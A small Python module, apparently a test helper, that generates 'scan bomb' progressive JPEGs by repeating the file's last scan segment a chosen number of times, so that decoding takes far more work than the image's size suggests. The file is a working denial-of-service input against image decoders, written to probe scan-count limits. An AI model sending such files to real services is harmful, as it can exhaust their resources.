"""Small progressive JPEGs whose last scan is repeated: each repetition costs a decoder as much as the first."""

import io

from PIL import Image

_START_OF_SCAN, _END = 0xDA, 0xD9


def scan_bomb(side: int, copies: int) -> bytes:
    """Return a grey JPEG of ``side`` × ``side`` pixels with ``copies`` more scans than the six of libjpeg."""
    data = io.BytesIO()
    Image.new("L", (side, side), 128).save(data, "JPEG", progressive=True, quality=75)
    jpeg = data.getvalue()
    last = jpeg.rindex(bytes((0xFF, _START_OF_SCAN)))
    assert jpeg.endswith(bytes((0xFF, _END)))
    return jpeg[:-2] + jpeg[last:-2] * copies + jpeg[-2:]
